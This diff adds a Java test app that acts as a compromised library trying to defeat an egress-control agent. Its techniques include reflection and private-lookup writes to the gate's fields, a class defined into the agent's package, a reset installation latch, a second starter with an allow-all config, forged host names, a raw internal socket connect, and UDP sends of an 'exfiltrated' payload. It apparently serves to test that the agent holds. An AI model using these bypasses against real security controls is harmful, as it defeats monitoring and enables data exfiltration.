@@ -1,0 +1,340 @@
+package dev.primus.it.apps.hostile;
+
+import java.io.BufferedReader;
+import java.io.InputStream;
+import java.io.InputStreamReader;
+import java.lang.instrument.Instrumentation;
+import java.lang.invoke.MethodHandles;
+import java.lang.reflect.Field;
+import java.lang.reflect.Modifier;
+import java.lang.reflect.Proxy;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.util.ServiceLoader;
+import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.function.Consumer;
+
+/**
+ * What a compromised dependency inside the app would try against the agent, one attack per
+ * stdin line ({@code ATTACK HOST PORT}), each followed by a plain socket connect to
+ * {@code HOST:PORT}, a destination the policy denies. Prints {@code RESULT <what the attack
+ * achieved>; <the connect's outcome>}: {@code connected}, {@code DENIED ...} or {@code ERROR ...}.
+ * Every attack is tried in earnest; the test asserts the connect after it is still denied.
+ */
+public final class HostileLibraryApp {
+    private static final String BRIDGE = "dev.primus.bootstrap.";
+
+    private HostileLibraryApp() {
+    }
+
+    public static void main(String[] args) throws Exception {
+        // JDK 17's legacy datagram implementation, chosen at run time, before the first datagram socket.
+        System.setProperty("jdk.net.usePlainDatagramSocketImpl", "true");
+        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
+        System.out.println("READY");
+        System.out.flush();
+        for (String line = in.readLine(); line != null && !line.equals("quit"); line = in.readLine()) {
+            String[] words = line.trim().split(" ");
+            String host = words[words.length - 2];
+            int port = Integer.parseInt(words[words.length - 1]);
+            String result;
+            if (ROUTES.contains(words[0])) {
+                result = "route " + words[0] + "; " + outcome(() -> route(words[0], words[1], host, port));
+            } else {
+                String attack;
+                try {
+                    attack = attack(words[0], words);
+                } catch (Throwable failure) {
+                    attack = "attack failed: " + failure;
+                }
+                result = attack + "; " + outcome(() -> connect(host, port));
+            }
+            System.out.println("RESULT " + result);
+            System.out.flush();
+        }
+    }
+
+    /** Attacks that are themselves a way to the destination, rather than something done before a plain connect. */
+    private static final java.util.Set<String> ROUTES = java.util.Set.of("forged-name", "okhttp-own-dns", "net-connect",
+            "legacy-datagram-connect", "multicast-send", "is-reachable");
+
+    /** A connection attempt: what it returns when it connects. */
+    private interface Attempt {
+        String run() throws Throwable;
+    }
+
+    private static String outcome(Attempt attempt) {
+        try {
+            return attempt.run();
+        } catch (Throwable failure) {
+            for (Throwable cause = failure; cause != null; cause = cause.getCause()) {
+                if (cause.getClass().getName().equals(BRIDGE + "EgressDeniedException")) {
+                    return "DENIED " + cause.getMessage();
+                }
+            }
+            return "ERROR " + failure;
+        }
+    }
+
+    private static String connect(String host, int port) throws Throwable {
+        try (Socket socket = new Socket()) {
+            socket.connect(new InetSocketAddress(host, port), 5000);
+            return "connected";
+        }
+    }
+
+    /**
+     * A way to {@code address:port} under a name the policy allows ({@code name}), which no resolver
+     * ever gave for that address.
+     */
+    private static String route(String route, String name, String address, int port) throws Throwable {
+        java.net.InetAddress forged = java.net.InetAddress.getByAddress(name, java.net.InetAddress.getByName(address).getAddress());
+        switch (route) {
+            case "forged-name":
+                try (Socket socket = new Socket()) {
+                    socket.connect(new InetSocketAddress(forged, port), 5000);
+                    return "connected";
+                }
+            case "okhttp-own-dns":
+                okhttp3.OkHttpClient client = new okhttp3.OkHttpClient.Builder().dns(host -> java.util.List.of(forged)).build();
+                try (okhttp3.Response response = client.newCall(new okhttp3.Request.Builder()
+                        .url("http://" + name + ":" + port + "/").build()).execute()) {
+                    return "connected " + response.code();
+                }
+            case "net-connect":
+                return netConnect(address, port);
+            case "legacy-datagram-connect":
+                try (java.net.DatagramSocket socket = new java.net.DatagramSocket()) {
+                    socket.connect(java.net.InetAddress.getByName(address), port);
+                    byte[] payload = "exfiltrated".getBytes(StandardCharsets.UTF_8);
+                    socket.send(new java.net.DatagramPacket(payload, payload.length));
+                    return "sent";
+                }
+            case "multicast-send":
+                try (java.net.MulticastSocket socket = new java.net.MulticastSocket()) {
+                    byte[] payload = "exfiltrated".getBytes(StandardCharsets.UTF_8);
+                    sendWithTtl(socket, new java.net.DatagramPacket(payload, payload.length,
+                            java.net.InetAddress.getByName(address), port));
+                    return "sent";
+                }
+            case "is-reachable":
+                return "reachable " + java.net.InetAddress.getByName(address).isReachable(2000);
+            default:
+                throw new IllegalArgumentException("no route " + route);
+        }
+    }
+
+    private static String attack(String name, String[] words) throws Throwable {
+        switch (name) {
+            case "none":
+                return "nothing tried";
+            case "public-install":
+                return publicInstall();
+            case "call-depth":
+                return callDepth();
+            case "write-gate-fields":
+                return writeStaticFields(Class.forName(BRIDGE + "EgressGate"));
+            case "open-engine":
+                return openEngine();
+            case "define-into-bridge":
+                return defineIntoBridge();
+            case "second-starter":
+                return secondStarter(words[1]);
+            case "reset-latch-and-start":
+                return resetLatch() + ", " + secondStarter(words[1]);
+            case "enter-without-leaving":
+                return enterWithoutLeaving(words[1]);
+            default:
+                throw new IllegalArgumentException("no attack " + name);
+        }
+    }
+
+    /** {@code EgressGate.install(null)}, {@code AuthGate.install}, {@code LogMasking.install}: once public. */
+    private static String publicInstall() {
+        StringBuilder found = new StringBuilder();
+        for (String gate : new String[] {"EgressGate", "AuthGate", "LogMasking"}) {
+            try {
+                for (java.lang.reflect.Method method : Class.forName(BRIDGE + gate).getMethods()) {
+                    if (method.getName().equals("install")) {
+                        method.invoke(null, (Object) null);
+                        found.append(gate).append(".install called ");
+                    }
+                }
+            } catch (Throwable failure) {
+                found.append(gate).append(": ").append(failure).append(' ');
+            }
+        }
+        return found.length() == 0 ? "no install method" : found.toString().trim();
+    }
+
+    /** {@code CallDepth.enter(EGRESS)} made the next connect look nested. */
+    private static String callDepth() {
+        try {
+            Class<?> depth = Class.forName(BRIDGE + "CallDepth");
+            depth.getMethod("enter", int.class).invoke(null, 0);
+            depth.getMethod("enter", int.class).invoke(null, 3);
+            return "CallDepth entered";
+        } catch (ClassNotFoundException absent) {
+            return "no CallDepth";
+        } catch (Throwable failure) {
+            return "CallDepth: " + failure;
+        }
+    }
+
+    /** Every static field of a bridge class, set to null by reflection and by a private lookup. */
+    private static String writeStaticFields(Class<?> type) {
+        StringBuilder written = new StringBuilder();
+        for (Field field : type.getDeclaredFields()) {
+            if (!Modifier.isStatic(field.getModifiers()) || field.getType().isPrimitive()) {
+                continue;
+            }
+            try {
+                field.setAccessible(true);
+                field.set(null, null);
+                written.append(field.getName()).append(" written ");
+                continue;
+            } catch (Throwable refused) {
+                // Try a method handle next.
+            }
+            try {
+                MethodHandles.privateLookupIn(type, MethodHandles.lookup())
+                        .findStaticSetter(type, field.getName(), field.getType()).invoke((Object) null);
+                written.append(field.getName()).append(" written by handle ");
+            } catch (Throwable refused) {
+                // Sealed.
+            }
+        }
+        return written.length() == 0 ? "no field written" : written.toString().trim();
+    }
+
+    /** The engine object, read off the gate, then every field of it and of what it holds opened and cleared. */
+    private static String openEngine() throws Throwable {
+        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
+        Object engine = null;
+        for (Field field : gate.getDeclaredFields()) {
+            if (Modifier.isStatic(field.getModifiers()) && field.getType().getName().endsWith("Checker")) {
+                engine = MethodHandles.privateLookupIn(gate, MethodHandles.lookup())
+                        .findStaticGetter(gate, field.getName(), field.getType()).invoke();
+            }
+        }
+        if (engine == null) {
+            return "no engine";
+        }
+        int opened = 0;
+        int sealed = 0;
+        for (Field field : engine.getClass().getDeclaredFields()) {
+            try {
+                field.setAccessible(true);
+                opened++;
+                if (!Modifier.isStatic(field.getModifiers()) && !field.getType().isPrimitive()) {
+                    field.set(engine, null);
+                }
+            } catch (Throwable refused) {
+                sealed++;
+            }
+        }
+        return "engine " + engine.getClass().getName() + " in " + engine.getClass().getModule() + ": "
+                + opened + " fields opened, " + sealed + " sealed";
+    }
+
+    /** A class of its own defined into the bridge package, with the package access that brings. */
+    private static String defineIntoBridge() throws Throwable {
+        byte[] bytes;
+        try (InputStream in = HostileLibraryApp.class.getResourceAsStream("/dev/primus/bootstrap/Intruder.class")) {
+            bytes = in.readAllBytes();
+        }
+        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
+        Class<?> intruder = MethodHandles.privateLookupIn(gate, MethodHandles.lookup()).defineClass(bytes);
+        return "defined in " + (intruder.getClassLoader() == null ? "the bootstrap loader" : intruder.getClassLoader())
+                + ": " + intruder.getMethod("tryToReplaceTheEngines").invoke(null);
+    }
+
+    /**
+     * The installer inside the agent's module, found as the service its module provides and run
+     * with a config that allows everything and an Instrumentation of its own.
+     */
+    private static String secondStarter(String allowAllConfig) throws Throwable {
+        Object engine = engine();
+        ModuleLayer layer = engine.getClass().getModule().getLayer();
+        if (layer == null) {
+            return "no module layer";
+        }
+        Instrumentation fake = (Instrumentation) Proxy.newProxyInstance(HostileLibraryApp.class.getClassLoader(),
+                new Class<?>[] {Instrumentation.class}, (proxy, method, arguments) -> {
+                    Class<?> returns = method.getReturnType();
+                    return returns == boolean.class ? Boolean.FALSE : returns.isArray()
+                            ? java.lang.reflect.Array.newInstance(returns.getComponentType(), 0) : null;
+                });
+        int started = 0;
+        for (Consumer<?> starter : ServiceLoader.load(layer, Consumer.class)) {
+            @SuppressWarnings("unchecked")
+            Consumer<Object[]> start = (Consumer<Object[]>) starter;
+            start.accept(new Object[] {"config=" + allowAllConfig, fake, Boolean.TRUE});
+            started++;
+        }
+        return started + " starter(s) run";
+    }
+
+    /**
+     * The JDK's own connect below every NIO socket, called directly, as code can with
+     * {@code --add-opens java.base/sun.nio.ch}: a fresh socket descriptor from {@code Net.socket}.
+     */
+    private static String netConnect(String address, int port) throws Throwable {
+        Class<?> net = Class.forName("sun.nio.ch.Net");
+        // Net.socket(family, stream) on JDK 17 and 25 alike.
+        java.lang.reflect.Method socket = net.getDeclaredMethod("socket", java.net.ProtocolFamily.class, boolean.class);
+        socket.setAccessible(true);
+        java.io.FileDescriptor fd = (java.io.FileDescriptor) socket.invoke(null, java.net.StandardProtocolFamily.INET, true);
+        java.lang.reflect.Method connect = net.getDeclaredMethod("connect", java.io.FileDescriptor.class,
+                java.net.InetAddress.class, int.class);
+        connect.setAccessible(true);
+        try {
+            return "connected " + connect.invoke(null, fd, java.net.InetAddress.getByName(address), port);
+        } catch (java.lang.reflect.InvocationTargetException failure) {
+            throw failure.getCause();
+        }
+    }
+
+    /** {@code MulticastSocket.send(packet, ttl)}: deprecated, still there, and a path of its own on JDK 17. */
+    @SuppressWarnings("deprecation")
+    private static void sendWithTtl(java.net.MulticastSocket socket, java.net.DatagramPacket packet) throws Throwable {
+        socket.send(packet, (byte) 1);
+    }
+
+    /** The latch that refuses a second installation, reset through its mutable object. */
+    private static String resetLatch() throws Throwable {
+        Class<?> installation = Class.forName(BRIDGE + "GateInstallation");
+        for (Field field : installation.getDeclaredFields()) {
+            if (field.getType() == AtomicBoolean.class) {
+                AtomicBoolean claimed = (AtomicBoolean) MethodHandles.privateLookupIn(installation, MethodHandles.lookup())
+                        .findStaticGetter(installation, field.getName(), AtomicBoolean.class).invoke();
+                claimed.set(false);
+                return "latch reset";
+            }
+        }
+        return "no latch";
+    }
+
+    /**
+     * An HTTP request to an allowed URL entered on this thread and never left, so that what
+     * follows looks like part of it.
+     */
+    private static String enterWithoutLeaving(String allowedUrl) throws Throwable {
+        java.net.URLConnection connection = new java.net.URL(allowedUrl).openConnection();
+        Class.forName(BRIDGE + "EgressGate").getMethod("enterHttp", java.net.URLConnection.class).invoke(null, connection);
+        return "entered " + allowedUrl;
+    }
+
+    private static Object engine() throws Throwable {
+        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
+        for (Field field : gate.getDeclaredFields()) {
+            if (Modifier.isStatic(field.getModifiers()) && field.getType().getName().endsWith("Checker")) {
+                return MethodHandles.privateLookupIn(gate, MethodHandles.lookup())
+                        .findStaticGetter(gate, field.getName(), field.getType()).invoke();
+            }
+        }
+        throw new IllegalStateException("no engine field");
+    }
+
+}
